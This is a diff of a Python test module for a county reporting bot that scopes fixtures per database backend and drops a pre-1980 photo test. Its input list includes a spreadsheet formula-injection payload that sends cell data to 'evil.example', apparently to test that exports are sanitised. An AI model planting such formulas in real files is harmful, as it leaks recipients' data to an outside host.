@@ -28,15 +28,15 @@ from sqlalchemy import select
 
 from bot.app import create_app
 from bot.bootstrap import build_services
+from bot.clock import FixedClock
 from bot.cli import main
 from bot.config import build_config
 from bot.messages import storable_text
 from bot.worker import Worker
-from scoring import Quarter
 from storage.db import UnitOfWork
 from storage.models import QuarterFactValue, StoredFile, SummaryItem, Unit
 from tests.admin_support import built_pack, make_users, sign_in
-from tests.conftest import SUMMARY, Dialogue, add_unit, jpeg_bytes, shanghai
+from tests.conftest import BACKENDS, SUMMARY, Dialogue, add_unit, emptied, jpeg_bytes, shanghai
 
 CONTROLS = [f"前{chr(c)}后" for c in range(0x20)]
 FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"点我")', "=1+2", "+1+2", "-1+2",
@@ -87,7 +87,7 @@ def storable(payloads: list[str], db_url: str) -> list[str]:
     return payloads
 
 
-@pytest.fixture
+@pytest.fixture(scope="module")
 def smtp():
     from aiosmtpd.controller import Controller
 
@@ -110,10 +110,16 @@ def smtp():
     controller.stop()
 
 
-@pytest.fixture
-def world(db_url, tmp_path, clock, smtp):
+@pytest.fixture(scope="module", params=BACKENDS)
+def world(request, database_urls, tmp_path_factory, smtp):
     """One unit named after each hostile text; its liaison sends the text as a message and as
-    a file name, with a summary and a photo (so the month is complete and mailed)."""
+    a file name, with a summary and a photo (so the month is complete and mailed). Built once
+    per database for the module: every test here reads it, none changes what another reads
+    (the facts import writes facts that no other test looks at)."""
+    db_url = emptied(database_urls[request.param])
+    smtp.messages.clear()           # the other database's world was mailed to the same inbox
+    tmp_path = tmp_path_factory.mktemp("hostile")
+    clock = FixedClock(shanghai(2026, 3, 20, 10, 0, 0))
     config = build_config({"database": {"url": db_url}, "files": {"dir": str(tmp_path / "f")},
                            "mail": {"enabled": True, "host": "127.0.0.1", "port": smtp.port,
                                     "sender": "bot@county.gov.cn",
@@ -365,18 +371,3 @@ def test_the_office_reads_every_text_and_downloads_every_document(world, client)
         resp = client.get(f"/admin/files/{file_id}")
         assert resp.status_code == 200 and "attachment" in resp.headers["Content-Disposition"]
         resp.close()
-
-
-def test_a_photo_sent_before_1980_still_goes_into_its_pack(services, dialogue):
-    from bot.office.evidence import write_unit_pack
-    unit = add_unit(services, "县委党校", liaisons=["console:dx"])
-    dialogue.photo("console:dx", jpeg_bytes(), sent_at=shanghai(1970, 1, 1, 8, 0, 0))
-    with UnitOfWork(services.session_factory) as uow:
-        [month] = uow.session.scalars(select(SummaryItem.month)).all()
-        out = BytesIO()
-        write_unit_pack(uow.session, services.files, unit, Quarter.parse(month[:4] + "Q1"),
-                        services.clock.now(), services.conversation.rules, out)
-    with safe_zip(out.getvalue()) as pack:
-        [photo] = [i for i in pack.infolist() if "/照片/" in i.filename]
-    assert photo.filename.endswith("19700101-080000.jpg")
-    assert photo.date_time == (2026, 3, 20, 10, 0, 0)   # stamped with its receipt, in Shanghai
